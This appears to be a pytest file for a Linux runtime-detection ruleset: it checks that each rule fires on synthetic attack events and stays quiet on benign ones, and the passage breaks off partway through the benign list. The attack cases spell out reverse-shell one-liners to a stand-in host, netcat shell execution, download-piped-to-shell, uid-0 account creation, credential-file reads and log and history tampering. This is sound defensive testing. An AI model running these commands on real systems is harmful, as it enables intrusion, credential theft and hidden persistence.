"""The packaged default ruleset: every rule fires on a synthetic attack and stays quiet on benign activity.

Each rule must have a case here (the test fails when a rule is added without one). Events are shaped like
ravn_core/events.py; the process tree is built from exec events as the runtime would build it.
"""

from __future__ import annotations

import re
import time
from typing import Any

import pytest
from ravn_analyzers.rules.engine import RulesAnalyzer, RulesConfig

from ravn_core.components import Alert, BatchContext
from ravn_core.proctree import ProcessTree
from ravn_core.testing import make_context

T0 = 1_700_000_000 * 10**9
_pid = iter(range(1000, 10**6))


def E(etype: str, comm: str = "bash", pid: int | None = None, ppid: int = 1, uid: int = 0, t: float = 0.0,
      **fields: Any) -> dict[str, Any]:
    e: dict[str, Any] = {"evt.type": etype, "evt.ts": T0 + int(t * 1e9), "proc.pid": pid or next(_pid),
                         "proc.tid": 0, "proc.ppid": ppid, "proc.uid": uid, "proc.gid": 0, "proc.comm": comm}
    e["proc.tid"] = e["proc.pid"]
    e.update({k.replace("__", "."): v for k, v in fields.items()})
    return e


def X(path: str, *args: str, comm: str | None = None, **kw: Any) -> dict[str, Any]:
    """An exec of ``path`` with argv ``[basename, *args]``."""
    name = path.rsplit("/", 1)[-1]
    return E("exec", comm=comm or name[:15], exec__filename=path, exec__argv=[name, *args], exec__ret=0,
             exec__memfd=False, **kw)


def Open(path: str, comm: str = "bash", write: bool = False, flags: int | None = None, **kw: Any) -> dict[str, Any]:
    f = flags if flags is not None else (0o1101 if write else 0)
    return E("open", comm=comm, file__path=path, file__flags=f, file__mode=0o644, file__ret=3, file__write=write, **kw)


def C(daddr: str, dport: int, comm: str = "python3", **kw: Any) -> dict[str, Any]:
    return E("connect", comm=comm, net__family="ipv4", net__proto="tcp", net__saddr="10.0.0.5", net__sport=40000,
             net__daddr=daddr, net__dport=dport, net__fd=3, net__ret=0, **kw)


def chain(*links: tuple[str, str]) -> list[dict[str, Any]]:
    """Exec events building an ancestry: chain(("/usr/bin/apt", "apt"), ("/usr/bin/dpkg", "dpkg")) -> pids."""
    out, ppid = [], 1
    for path, comm in links:
        ev = X(path, comm=comm, ppid=ppid)
        out.append(ev)
        ppid = ev["proc.pid"]
    return out


def under(parents: list[dict[str, Any]], ev: dict[str, Any]) -> list[dict[str, Any]]:
    ev["proc.ppid"] = parents[-1]["proc.pid"]
    return [*parents, ev]


def by(path: str, ev: dict[str, Any], comm: str | None = None, parents: list[dict[str, Any]] | None = None
       ) -> list[dict[str, Any]]:
    """``ev`` done by a process that executed ``path`` (so the process tree knows its executable), optionally
    below ``parents`` (a chain())."""
    ex = X(path, comm=comm or ev["proc.comm"], ppid=parents[-1]["proc.pid"] if parents else 1)
    ev = {**ev, "proc.pid": ex["proc.pid"], "proc.tid": ex["proc.pid"], "proc.ppid": ex["proc.ppid"]}
    return [*(parents or []), ex, ev]


def _revshell() -> list[dict[str, Any]]:
    pid = next(_pid)
    return [C("127.0.0.1", 4444, comm="bash", pid=pid), E("dup", pid=pid, dup__oldfd=3, dup__newfd=0, dup__ret=0),
            E("dup", pid=pid, dup__oldfd=3, dup__newfd=1, dup__ret=0), {**X("/bin/bash", "-i"), "proc.pid": pid}]


def _same_pid(events: list[dict[str, Any]]) -> list[dict[str, Any]]:
    pid = next(_pid)
    for e in events:
        e["proc.pid"] = pid
    return events


def _burst(n: int, make: Any) -> list[dict[str, Any]]:
    pid = next(_pid)
    out = []
    for i in range(n):
        e = make(i)
        e["proc.pid"] = pid
        e["evt.ts"] += int(i * 0.01 * 1e9)
        out.append(e)
    return out


def _discovery() -> list[dict[str, Any]]:
    shell = X("/bin/bash")
    return [shell] + [{**X(f"/usr/bin/{n}"), "proc.ppid": shell["proc.pid"]}
                      for n in ("id", "whoami", "uname", "ps", "netstat")]


SU = dict(uid=1000)
ATTACKS: dict[str, list[dict[str, Any]]] = {
    "reverse_shell_stdio_to_socket": _revshell(),
    "reverse_shell_dev_tcp": [X("/bin/bash", "-c", "bash -i >& /dev/tcp/10.9.9.9/4444 0>&1")],
    "interpreter_reverse_shell_oneliner": [X("/usr/bin/python3", "-c", "import socket,subprocess,os;s=socket.socket()"
                                             ";s.connect(('10.9.9.9',4444));subprocess.call(['/bin/sh','-i'])")],
    "netcat_remote_exec": [X("/usr/bin/nc", "-e", "/bin/sh", "10.9.9.9", "4444")],
    "netcat_listener": [X("/usr/bin/ncat", "-lvp", "4444")],
    "shell_listening_socket": [E("listen", comm="bash", net__family="ipv4", net__proto="tcp", net__saddr="0.0.0.0",
                                 net__sport=31337, net__backlog=1)],
    "shell_spawned_by_server": under(chain(("/usr/sbin/nginx", "nginx")), X("/bin/sh", "-c", "id")),
    "system_user_shell": [X("/bin/bash", "-i", uid=33)],
    "fileless_exec_memfd": [{**X("/memfd:payload"), "exec.memfd": True}],
    "exec_from_dev_shm": [X("/dev/shm/.x/kworker")],
    "exec_from_tmp": [X("/tmp/.cache/run")],
    "dropped_binary_executed": [Open("/tmp/payload", comm="curl", write=True), X("/tmp/payload", comm="bash", t=1)],
    "temp_file_made_executable_and_run": [
        E("chmod", comm="chmod", file__path="/tmp/.u/upd", file__mode=0o755, file__ret=0), X("/tmp/.u/upd", t=1)],
    "exec_via_dynamic_loader": [X("/lib64/ld-linux-x86-64.so.2", "/tmp/noexec/tool")],
    "download_piped_to_shell": [X("/bin/sh", "-c", "curl -fsSL http://10.9.9.9/x.sh | sh")],
    "base64_payload_to_shell": [X("/bin/bash", "-c", "echo ZWNobyBoaQ== | base64 -d | bash")],
    "crypto_miner_exec": [X("/tmp/xmrig", "-o", "stratum+tcp://pool.example:3333")],
    "crypto_miner_pool_port": [C("10.9.9.9", 3333, comm="kworkerd")],
    "c2_address_contacted": [C("203.0.113.7", 443)],
    "cloud_metadata_access": [C("169.254.169.254", 80, comm="curl")],
    "ssh_nonstandard_port": [C("10.9.9.9", 2222, comm="ssh")],
    "network_tool_launched": [X("/usr/bin/nmap", "-sS", "10.0.0.0/24")],
    "sensitive_file_read": [Open("/etc/shadow", comm="cat")],
    "ssh_private_key_read": [Open("/root/.ssh/id_ed25519", comm="python3")],
    "cloud_credentials_read": [Open("/home/al/.aws/credentials", comm="python3")],
    "credential_search": [X("/usr/bin/grep", "-ri", "BEGIN RSA PRIVATE", "/home")],
    "proc_mem_access": [Open("/proc/4242/mem", comm="python3")],
    "proc_environ_read": [Open("/proc/4242/environ", comm="cat")],
    "proc_environ_dumped": by("/usr/bin/strings", Open("/proc/4242/task/4243/environ", comm="strings")),
    "ld_preload_env_from_writable_dir": [X("/usr/bin/ls", exec__ld_preload="/tmp/T1574006.so")],
    "ld_preload_env": [X("/usr/sbin/sshd", "-D", exec__ld_preload="/home/al/.cache/libx.so")],
    "immutable_attribute_set": by("/tmp/.x/implant", E("chattr", comm="implant", file__path="/etc/cron.d/x",
                                                       file__attr_flags=0x80010, file__immutable=True,
                                                       file__append_only=False, file__ret=0)),
    "python_startup_hook_written": [Open("/home/al/.local/lib/python3.11/site-packages/x.pth", write=True,
                                         comm="python3")],
    "kcore_read": [Open("/proc/kcore", comm="dd")],
    "discovery_burst": _discovery(),
    "sensitive_recon_file_read": [Open("/proc/sys/kernel/randomize_va_space", comm="cat")],
    "cron_job_written": [Open("/etc/cron.d/updater", write=True)],
    "crontab_edited": [X("/usr/bin/crontab", "/tmp/cron.txt")],
    "systemd_unit_written": [Open("/etc/systemd/system/updater.service", write=True, comm="tee")],
    "ssh_authorized_keys_modified": [Open("/root/.ssh/authorized_keys", write=True, flags=0o2101)],
    "shell_profile_modified": [Open("/home/al/.bashrc", write=True, flags=0o2101)],
    "ld_preload_file_modified": [Open("/etc/ld.so.preload", write=True)],
    "loader_config_modified": [Open("/etc/ld.so.conf.d/x.conf", write=True)],
    "dynamic_loader_replaced": [Open("/usr/lib64/ld-linux-x86-64.so.2", write=True, comm="cp")],
    "user_account_tool": [X("/usr/sbin/useradd", "-o", "-u", "0", "svc")],
    "account_database_modified": [Open("/etc/passwd", write=True, flags=0o2001)],
    "sudoers_modified": [Open("/etc/sudoers.d/90-x", write=True, comm="tee")],
    "kernel_module_load": [E("module", comm="python3", module__call="finit_module", module__name="", module__fd=3)],
    "kernel_module_syscall": [E("syscall", comm="loader", syscall__nr=313, syscall__name="finit_module")],
    "kernel_module_syscall_summary": [E("syscall_summary", comm="loader", syscall__counts={"finit_module": 1},
                                        syscall__seq=[313], syscall__total=1)],
    "kernel_module_tool": [X("/usr/sbin/insmod", "/tmp/rk.ko")],
    "kernel_module_config_modified": [Open("/etc/modules-load.d/rk.conf", write=True)],
    "package_repository_modified": [Open("/etc/apt/sources.list.d/evil.list", write=True, comm="tee")],
    "setuid_bit_set": [E("chmod", comm="chmod", file__path="/usr/local/bin/helper", file__mode=0o4755, file__ret=0)],
    "setuid_bit_in_writable_dir": [E("chmod", comm="chmod", file__path="/tmp/.sh", file__mode=0o4755, file__ret=0)],
    "unexpected_setuid_root": [E("cred", comm="exploit", uid=1000, cred__call="setuid", cred__args=[0], cred__ret=0)],
    "ptrace_attach": [E("ptrace", comm="python3", ptrace__request=16, ptrace__request_name="PTRACE_ATTACH",
                        ptrace__target=4242, ptrace__ret=0)],
    "ptrace_code_injection": [E("ptrace", comm="python3", ptrace__request=4, ptrace__request_name="PTRACE_POKETEXT",
                                ptrace__target=4242, ptrace__ret=0)],
    "ptrace_anti_debug": [E("ptrace", comm="packed", ptrace__request=0, ptrace__request_name="PTRACE_TRACEME",
                            ptrace__target=0, ptrace__ret=0)],
    "process_memory_write_syscall": [E("syscall", comm="inject", syscall__nr=311, syscall__name="process_vm_writev")],
    "userfaultfd_by_unprivileged": [E("syscall", comm="exp", uid=1000, syscall__nr=323, syscall__name="userfaultfd")],
    "bpf_program_load": [E("bpf", comm="python3", bpf__cmd=5, bpf__cmd_name="BPF_PROG_LOAD")],
    "write_below_binary_dir": [Open("/usr/bin/sshd2", write=True, comm="curl")],
    "write_below_lib_dir": [Open("/usr/lib/x86_64-linux-gnu/libaudit.so.9", write=True, comm="curl")],
    "write_below_etc": [Open("/etc/hosts", write=True, comm="python3")],
    "link_over_sensitive_file": [E("symlink", file__path="/etc/shadow", file__newpath="/tmp/s",
                                                 file__ret=0)],
    "files_below_dev": [Open("/dev/.udev_cache", write=True)],
    "log_file_cleared": [Open("/var/log/auth.log", write=True, flags=0o1001)],
    "shell_history_tampered": [E("truncate", comm="truncate", file__path="/root/.bash_history", file__size=0,
                                 file__ret=0)],
    "mass_file_rename": _burst(30, lambda i: E("rename", comm="locker", file__path=f"/srv/data/f{i}.docx",
                                              file__newpath=f"/srv/data/f{i}.docx.x", file__ret=0)),
    "ransom_extension_rename": _burst(5, lambda i: E("rename", comm="locker", file__path=f"/srv/f{i}.pdf",
                                                     file__newpath=f"/srv/f{i}.pdf.encrypted", file__ret=0)),
    "data_wipe_tool": [X("/usr/bin/shred", "-u", "/srv/db.sqlite")],
    "port_scan": _burst(20, lambda i: C("10.0.0.9", 1 + i)),
    "host_sweep": _burst(30, lambda i: C(f"10.0.1.{i}", 22)),
    "release_agent_write": [Open("/sys/fs/cgroup/rdma/x/release_agent", write=True)],
    "core_pattern_write": [Open("/proc/sys/kernel/core_pattern", write=True, flags=1)],
    "kernel_tunable_weakened": [Open("/proc/sys/kernel/randomize_va_space", write=True, flags=1)],
    "cgroup_fs_mounted": [E("mount", comm="mount", mount__source="cgroup", mount__target="/tmp/cg",
                            mount__fstype="cgroup", mount__flags=0, mount__ret=0)],
    "host_device_mounted": under(chain(("/bin/bash", "bash")), E("mount", comm="mount", mount__source="/dev/sda1",
                                 mount__target="/mnt/host", mount__fstype="ext4", mount__flags=0, mount__ret=0)),
    "namespace_unshare": [E("unshare", comm="exploit", ns__flags=0x10000000, ns__ret=0)],
    "namespace_setns": [E("setns", comm="python3", ns__fd=3, ns__flags=0x20000, ns__ret=0)],
    "unshare_then_mount": _same_pid([E("unshare", comm="exploit", ns__flags=0x10020000, ns__ret=0),
                                     E("mount", comm="exploit", mount__source="none", mount__target="/tmp/m",
                                       mount__fstype="cgroup2", mount__flags=0, mount__ret=0, t=0.5)]),
}
ATTACKS["kernel_module_tool"] = [X("/usr/sbin/modprobe", "rk")]


def siblings(*execs: dict[str, Any]) -> list[dict[str, Any]]:
    """Execs started side by side by one shell (a pipeline): same parent, a few ms apart."""
    shell = X("/bin/bash")
    return [shell, *({**e, "proc.ppid": shell["proc.pid"], "evt.ts": e["evt.ts"] + i * 2_000_000}
                     for i, e in enumerate(execs))]


def _decoded_to_tmp() -> list[dict[str, Any]]:
    pid = next(_pid)
    return [Open("/tmp/.x.sh", write=True, pid=pid, ppid=77), {**X("/usr/bin/base64", "-d", ppid=77), "proc.pid": pid}]


ATTACKS.update({
    "decoded_payload_piped_to_shell": siblings(X("/usr/bin/base64", "-d"), X("/bin/sh")),
    "shell_fed_by_decoder": siblings(X("/usr/bin/bash"), X("/usr/bin/xxd", "-r", "-p")),
    "download_then_shell": siblings(X("/usr/bin/curl", "-fsSL", "http://10.9.9.9/i"), X("/bin/bash")),
    "shell_fed_by_download": siblings(X("/bin/sh"), X("/usr/bin/wget", "-qO-", "http://10.9.9.9/i")),
    "decoded_payload_written": _decoded_to_tmp(),
    "decoder_wrote_payload": list(reversed(_decoded_to_tmp())),
    "decoder_oneliner_writes_file": [X("/usr/bin/python3", "-c", "import base64;open('/tmp/x','wb').write("
                                       "base64.b64decode('ZWNobw=='))")],
    "dropped_script_run": [Open("/tmp/.s.sh", write=True, comm="curl"), X("/bin/sh", "/tmp/.s.sh", t=2)],
    "daemon_name_run_from_writable_dir": [X("/dev/shm/.x/sshd", "-D")],
    "deceptive_file_name_exec": [X("/tmp/sshd ")],
    "argv0_masquerade": [{**X("/tmp/.x/a"), "exec.argv": ["[kworker/0:2]"]}],
    "kernel_thread_name_spoofed": [C("10.9.9.9", 443, comm="kworker/0:2")],
    "credential_file_dumped": [Open("/etc/shadow", comm="cat")],
    "persistence_points_to_temp": [X("/bin/sh", "-c", "echo '* * * * * root /dev/shm/.x' > /etc/cron.d/0h"),
                                   Open("/etc/cron.d/0h", write=True, comm="sh")],
    "authorized_keys_written_by_shell": [Open("/root/.ssh/authorized_keys", write=True, flags=0o2101)],
    "kernel_module_file_loaded": [X("/usr/sbin/insmod", "/tmp/rk.ko")],
    "world_writable_chmod": [E("chmod", comm="chmod", file__path="/tmp/.x/run", file__mode=0o777, file__ret=0)],
    "system_file_world_writable": [E("chmod", comm="chmod", file__path="/etc/passwd", file__mode=0o666,
                                     file__ret=0)],
    "recursive_permission_change": [X("/usr/bin/chmod", "-R", "777", "/etc")],
    "mass_permission_change": _burst(20, lambda i: E("chown", comm="chown", file__path=f"/etc/x/f{i}", file__uid=1000,
                                                     file__gid=1000, file__ret=0)),
    "immutable_attribute_changed": [X("/usr/bin/chattr", "+i", "/tmp/.x/run")],
    "system_file_immutable_changed": [X("/usr/bin/chattr", "+i", "/root/.ssh/authorized_keys")],
})
ATTACKS.update({
    "process_memory_read": [E("process_vm", comm="mimipenguin", process_vm__call="process_vm_readv",
                              process_vm__target=812, process_vm__ret=4096)],
    "process_memory_written": [E("process_vm", comm="inject", process_vm__call="process_vm_writev",
                                 process_vm__target=812, process_vm__ret=64)],
    "process_renamed_to_system_name": by("/tmp/.x/implant", E("prctl", comm="implant", prctl__option="PR_SET_NAME",
                                                             prctl__name="kworker/0:1", prctl__arg=0, prctl__ret=0)),
    "process_renamed_via_procfs": [Open("/proc/self/comm", write=True, flags=0o1001)],
    "packet_socket_opened": [E("socket", comm="sniff", socket__family="AF_PACKET", socket__type="SOCK_RAW",
                               socket__protocol=768, socket__ret=3)],
    "process_argv_rewritten": [E("prctl", comm="implant", prctl__option="PR_SET_MM", prctl__name="", prctl__arg=8,
                                 prctl__ret=0)],
})
# the exec of the sibling pipeline members and of the writers: one parent, the pipeline's shell
ATTACKS["persistence_points_to_temp"][1]["proc.pid"] = ATTACKS["persistence_points_to_temp"][0]["proc.pid"]

# 60_tradecraft.yaml (behaviour classes the Atomic Red Team run found missing)
ATTACKS.update({
    "shell_history_disabled": [X("/bin/sh", "-c", "unset HISTFILE; export HISTFILESIZE=0; id"),
                               X("/bin/bash", "-c", 'export HISTFILE="/dev/null"; whoami')],
    "shell_history_overwritten": [X("/usr/bin/ln", "-sf", "/dev/null", "/root/.bash_history"),
                                  X("/usr/bin/rm", "-f", "/home/al/.zsh_history")],
    "shell_history_searched": [X("/usr/bin/grep", "-i", "pass", "/home/al/.bash_history")],
    "credential_store_search": [X("/usr/bin/find", "/home", "-name", ".git-credentials")],
    "timestamp_forged": [X("/usr/bin/touch", "-r", "/bin/ls", "/usr/local/bin/.u")],
    "staged_data_encrypted": [X("/usr/bin/zip", "-P", "s3cret", "/tmp/l.zip", "/tmp/loot")],
    "transient_systemd_job": [X("/usr/bin/systemd-run", "--on-active=60", "/tmp/.u")],
    "systemd_unit_outside_unit_dirs": [X("/usr/bin/systemctl", "link", "/dev/shm/u.service")],
    "capability_granted": [X("/usr/sbin/setcap", "cap_setuid+ep", "/tmp/python3")],
    "interpreter_pty_shell": [X("/usr/bin/python3", "-c", "import pty;pty.spawn('/bin/sh')")],
    "shell_escape_from_program": under(chain(("/usr/bin/find", "find")), X("/bin/sh", "-p")),
    "interpreter_oneliner_archives_data": [X("/usr/bin/python3", "-c", "import tarfile; t = tarfile.open("
                                             "'/tmp/l.tgz', 'w:gz'); t.add('/home/al/.config'); t.close()")],
    "temp_file_given_to_root": [X("/usr/bin/chown", "root:root", "/tmp/.x/helper")],
    "shell_trap_runs_program": [X("/bin/bash", "-c", 'trap "nohup sh /var/tmp/.u/run.sh" EXIT')],
    "shell_command_logger": [X("/bin/bash", "-c", "trap 'echo \"$BASH_COMMAND\" >> /tmp/.k' DEBUG\nid")],
    "hidden_dir_in_temp": [X("/usr/bin/mkdir", "-p", "/dev/shm/.d")],
})
# 10_execution.yaml, the same run's missing classes
ATTACKS.update({
    "decoded_oneliner_executed": [X("/usr/bin/python3", "-c", "import base64,os; os.system(base64.b64decode("
                                    "'aWQ=').decode())")],
    "file_type_masquerade_run": [X("/bin/sh", "/tmp/image.png")],
})


@pytest.fixture(scope="module")
def analyzer() -> RulesAnalyzer:
    cfg = RulesConfig(append_lists={"c2_addresses": ["203.0.113.7"]})
    return RulesAnalyzer("analyzer_rules", cfg, make_context("rules"))


def analyze(an: RulesAnalyzer, events: list[dict[str, Any]]) -> list[Alert]:
    tree = ProcessTree()
    tree.update(events)
    return an.analyze(events, BatchContext("h", tree, time.time()))


def test_ruleset_size_and_metadata(analyzer: RulesAnalyzer) -> None:
    rules = analyzer.ruleset.rules
    assert len(rules) >= 40
    for r in rules:
        assert any(re.match(r"^T\d{4}", t) for t in r.tags), f"{r.name} has no ATT&CK technique"
        assert 0 < r.score <= 100
        assert r.details or r.description


def test_every_rule_has_an_attack_case(analyzer: RulesAnalyzer) -> None:
    names = {r.name for r in analyzer.ruleset.rules}
    assert names - set(ATTACKS) == set(), "add a case to ATTACKS for each new default rule"
    assert set(ATTACKS) - names == set()


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_fires_rule(analyzer: RulesAnalyzer, name: str) -> None:
    alerts = analyze(analyzer, [dict(e) for e in ATTACKS[name]])
    fired = {a.rule for a in alerts}
    assert name in fired, f"{name} did not fire; fired: {sorted(fired)}"
    alert = next(a for a in alerts if a.rule == name)
    assert "?" not in alert.description.split(), alert.description  # every placeholder was filled


def _own_mem() -> list[dict[str, Any]]:
    """A process reading /proc/<its own pid>/mem (not another process's)."""
    events = by("/usr/bin/cat", Open("/proc/0/mem", comm="cat"))
    events[-1]["file.path"] = f"/proc/{events[-1]['proc.pid']}/mem"
    return events


def _request_then_command() -> list[dict[str, Any]]:
    """A program makes an HTTP request and closes it, then runs ``sh -c`` with its output on /dev/null, which
    took the socket's old fd number: the child's dup2(3, 1) is not a socket put on stdout."""
    parent = X("/tmp/v/bin/python3", "agent.py")
    pid = parent["proc.pid"]
    net = {"net__family": "ipv4", "net__proto": "tcp", "net__saddr": "10.0.0.5", "net__sport": 41000,
           "net__daddr": "10.0.0.1", "net__dport": 443}
    child = next(_pid)
    return [parent, E("connect", comm="python3", pid=pid, net__fd=3, net__ret=0, **net),
            E("close", comm="python3", pid=pid, t=0.2, **net),
            E("dup", comm="python3", pid=child, ppid=pid, t=0.5, dup__oldfd=3, dup__newfd=1, dup__ret=0),
            {**X("/bin/sh", "-c", "systemctl is-active nginx", ppid=pid, t=0.6), "proc.pid": child}]


def _benign() -> list[list[dict[str, Any]]]:
    apt = chain(("/usr/bin/apt-get", "apt-get"), ("/usr/bin/dpkg", "dpkg"))
    dpkg_script = chain(("/usr/bin/apt-get", "apt-get"), ("/usr/bin/dpkg", "dpkg"), ("/bin/sh", "sh"))
    make = chain(("/bin/bash", "bash"), ("/usr/bin/make", "make"), ("/usr/bin/gcc", "gcc"))
    ld = under(make, X("/usr/bin/ld", "-o", "/tmp/build/hello", comm="ld"))
    run_built = under(chain(("/bin/bash", "bash"), ("/usr/bin/make", "make")), X("/tmp/build/hello", t=1))
    sshd = chain(("/usr/sbin/sshd", "sshd"))
    logrotate = chain(("/usr/sbin/cron", "cron"), ("/usr/sbin/logrotate", "logrotate"))
    pip = chain(("/bin/bash", "bash"), ("/tmp/v/bin/python3", "python3"))
    pip[-1]["exec.argv"] = ["python3", "-m", "pip", "install", "--no-index", "/tmp/w/pkg.whl"]
    git = chain(("/bin/bash", "bash"), ("/usr/bin/git", "git"))
    return [
        under(apt, Open("/usr/bin/htop.dpkg-new", comm="dpkg", write=True)),
        under(apt, E("rename", comm="dpkg", file__path="/usr/bin/htop.dpkg-new", file__newpath="/usr/bin/htop",
                     file__ret=0)),
        under(apt, Open("/etc/htoprc", comm="dpkg", write=True)),
        under(apt, Open("/usr/lib/x86_64-linux-gnu/libfoo.so.1", comm="dpkg", write=True)),
        under(apt, E("chmod", comm="dpkg", file__path="/usr/bin/sudo", file__mode=0o4755, file__ret=0)),
        under(dpkg_script, X("/usr/sbin/useradd", "--system", "_htop")),
        under(dpkg_script, Open("/etc/systemd/system/multi-user.target.wants/x.service", comm="sh", write=True)),
        [Open("/usr/lib/python3.11/__pycache__/os.cpython-311.pyc", comm="python3", write=True)],
        by("/usr/sbin/sshd", Open("/etc/shadow", comm="sshd"), parents=sshd),
        by("/usr/sbin/unix_chkpwd", Open("/etc/shadow", comm="unix_chkpwd")),
        by("/usr/bin/ssh", Open("/root/.ssh/id_ed25519", comm="ssh")),
        [Open("/etc/passwd", comm="bash")],  # reading passwd is fine
        [*ld, Open("/tmp/build/hello", comm="ld", write=True, ppid=ld[-1]["proc.ppid"])],
        run_built,
        under(sshd, E("cred", comm="sshd", uid=0, cred__call="setuid", cred__args=[1000], cred__ret=0)),
        by("/usr/bin/sudo", E("cred", comm="sudo", uid=1000, cred__call="setresuid", cred__args=[0, 0, 0],
                              cred__ret=0)),
        under(logrotate, E("rename", comm="logrotate", file__path="/var/log/syslog", file__newpath="/var/log/syslog.1",
                           file__ret=0)),
        under(logrotate, E("unlink", comm="logrotate", file__path="/var/log/syslog.7.gz", file__ret=0)),
        under(logrotate, Open("/var/log/syslog", comm="logrotate", write=True, flags=0o1001)),
        [E("unlink", comm="bash", file__path="/var/log/app/old.log.3.gz", file__ret=0)],
        under(pip, Open("/tmp/v/lib/python3.11/site-packages/pkg/__init__.py", comm="python3", write=True)),
        pip + [{**E("rename", comm="python3", file__path=f"/tmp/v/lib/m{i}.pyc.123", pid=pip[-1]["proc.pid"],
                   ppid=pip[-1]["proc.ppid"], file__newpath=f"/tmp/v/lib/__pycache__/m{i}.pyc", file__ret=0,
                   t=i * 0.01)} for i in range(40)],
        _burst(10, lambda i: {**under(git, E("rename", comm="git", file__path="/tmp/r/.git/index.lock",
                                             file__newpath="/tmp/r/.git/index", file__ret=0))[-1]}),
        _burst(5, lambda i: C("140.82.121.4", 443, comm="git")),
        [E("listen", comm="python3", net__family="ipv4", net__proto="tcp", net__saddr="127.0.0.1", net__sport=8000,
           net__backlog=5)],
        [X("/usr/bin/ssh-keygen", "-t", "ed25519", "-f", "/tmp/k/id", "-N", "")],
        [X("/usr/bin/tar", "czf", "/tmp/a.tgz", "/tmp/src"), X("/usr/bin/gzip", "-d", "/tmp/b.gz")],
        [X("/usr/bin/dpkg", "-l"), X("/usr/bin/apt-cache", "policy")],
        [X("/usr/bin/uname", "-r"), X("/usr/bin/id", "-u")],  # two discovery commands is not a burst
        [C("127.0.0.1", 6379, comm="redis-cli"), C("10.0.0.1", 53, comm="systemd-resolve")],
        by("/usr/sbin/NetworkManager", Open("/etc/resolv.conf", comm="NetworkManager", write=True)),
        by("/usr/lib/systemd/systemd", E("mount", comm="systemd", mount__source="cgroup2",
                                         mount__target="/sys/fs/cgroup", mount__fstype="cgroup2", mount__flags=0,
                                         mount__ret=0)),
        by("/usr/lib/systemd/systemd", E("bpf", comm="systemd", bpf__cmd=5, bpf__cmd_name="BPF_PROG_LOAD")),
        by("/usr/bin/strace", E("ptrace", comm="strace", ptrace__request=16, ptrace__request_name="PTRACE_SEIZE",
                                ptrace__target=4242, ptrace__ret=0)),
        [X("/bin/bash", "-c", "ls -la"), X("/bin/sh", "-c", "echo hello | tr a-z A-Z")],
        # pipelines and decoders that are not a payload run
        siblings(X("/usr/bin/base64", "-d"), X("/usr/bin/gunzip")),  # base64 -d | gunzip > file
        siblings(X("/usr/bin/curl", "-fsSL", "http://10.0.0.1/key.gpg"), X("/usr/bin/gpg", "--dearmor")),
        siblings(X("/usr/bin/curl", "-o", "/tmp/x.tgz", "http://10.0.0.1/x"), X("/bin/sh")),  # download to a file
        siblings(X("/usr/bin/base64", "/etc/hostname"), X("/bin/sh", "/usr/local/bin/build.sh")),
        [X("/bin/bash", "-c", "echo aGk= | base64 -d")],
        [X("/bin/bash", "-c", "base64 -d < cert.b64 > cert.pem")],
        [X("/usr/bin/python3", "-c", "import base64; print(base64.b64decode(b'aGk='))")],
        # a pty in a program's own code, and a one-liner that runs a shell command without a terminal
        [X("/usr/bin/python3", "/usr/lib/python3/dist-packages/pexpect/run.py", "ssh", "host")],
        [X("/usr/bin/python3", "-c", "import subprocess; subprocess.run(['sh', '-c', 'make -j2'])")],
        # scripts in temp dirs run by their own build, files chmod'ed normally, chattr -l, modprobe by name
        [E("chmod", comm="chmod", file__path="/tmp/build/run.sh", file__mode=0o755, file__ret=0)],
        [E("chmod", comm="mktemp", file__path="/tmp/shared", file__mode=0o1777, file__ret=0)],
        [X("/usr/bin/chattr", "-R", "-V", "/srv")], [X("/usr/bin/lsattr", "/etc/passwd")],
        [X("/usr/bin/chown", "-R", "www-data:", "/var/www/html")],
        [X("/usr/sbin/sshd", "-D")], [X("/usr/sbin/cron", "-f")],
        [Open("/etc/passwd", comm="cat")],  # not a credential file
        by("/usr/bin/ssh-keygen", Open("/root/.ssh/id_ed25519", comm="ssh-keygen")),
        by("/usr/bin/tar", Open("/etc/shadow", comm="tar"), parents=chain(("/usr/sbin/cron", "cron"),
                                                                           ("/bin/sh", "sh"))),  # nightly backup
        by("/usr/bin/cloud-init", Open("/home/ubuntu/.ssh/authorized_keys", comm="cloud-init", write=True)),
        by("/usr/bin/python3", E("prctl", comm="python3", prctl__option="PR_SET_NAME", prctl__name="worker-3",
                                 prctl__arg=0, prctl__ret=0)),  # a thread name
        by("/usr/sbin/sshd", E("prctl", comm="sshd", prctl__option="PR_SET_NAME", prctl__name="sshd", prctl__arg=0,
                               prctl__ret=0)),
        by("/usr/bin/gdb", E("process_vm", comm="gdb", process_vm__call="process_vm_readv", process_vm__target=812,
                             process_vm__ret=8)),
        by("/usr/bin/python3", Open("/proc/self/task/4243/comm", comm="python3", write=True)),  # a thread name
        by("/usr/bin/python3", Open("/proc/self/mem", comm="python3")),  # its own memory
        _own_mem(),
        # the environment: systemd by its executable, a process reading its own
        by("/usr/lib/systemd/systemd", Open("/proc/4242/environ", comm="systemd")),
        by("/usr/bin/cat", Open("/proc/self/environ", comm="cat")),
        by("/usr/bin/chattr", E("chattr", comm="chattr", file__path="/srv/x", file__attr_flags=0x10,
                                file__immutable=True, file__append_only=False, file__ret=0)),  # chattr itself
        # loader variables: fakeroot, a sanitizer and jemalloc preload installed libraries, a build runs its own
        by("/usr/bin/dpkg-deb", X("/usr/bin/tar", "-cf", "x", exec__ld_preload="libfakeroot-sysv.so"),
           parents=chain(("/usr/bin/fakeroot", "fakeroot"))),
        [X("/srv/app/bin/server", exec__ld_preload="/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"),
         X("/usr/bin/python3", exec__ld_preload="/usr/lib/gcc/x86_64-linux-gnu/12/libasan.so /lib/x.so:libfoo.so",
           exec__ld_library_path="/opt/cuda/lib64:/tmp/build/lib")],
        under(chain(("/bin/bash", "bash"), ("/usr/bin/make", "make")),
              X("/tmp/build/tests/run", exec__ld_preload="./libhook.so", exec__ld_library_path="/dev/shm/b")),
        # Python hooks: pip (by its executable or -m pip) installing an editable package, a model checkpoint
        by("/usr/bin/pip3", Open("/usr/lib/python3/dist-packages/__editable__.x.pth", comm="pip3", write=True)),
        [*pip, {**Open("/tmp/v/lib/python3.11/site-packages/distutils-precedence.pth", comm="python3", write=True),
                "proc.pid": pip[-1]["proc.pid"], "proc.tid": pip[-1]["proc.pid"], "proc.ppid": pip[-1]["proc.ppid"]}],
        by("/tmp/v/bin/python3", Open("/home/al/models/epoch3.pth", comm="python3", write=True)),
        [{**X("/tmp/v/bin/python3.11", "-W", "ignore::DeprecationWarning", "-c",
              "\nimport runpy\nimport sys\nsys.path = ['/tmp/tmpab/setuptools-65.5.0-py3-none-any.whl']"),
          "proc.pid": 4701},
         Open("/tmp/v/lib/python3.11/site-packages/distutils-precedence.pth", comm="python3.11", write=True,
              pid=4701)],  # python -m venv: ensurepip's child installs setuptools
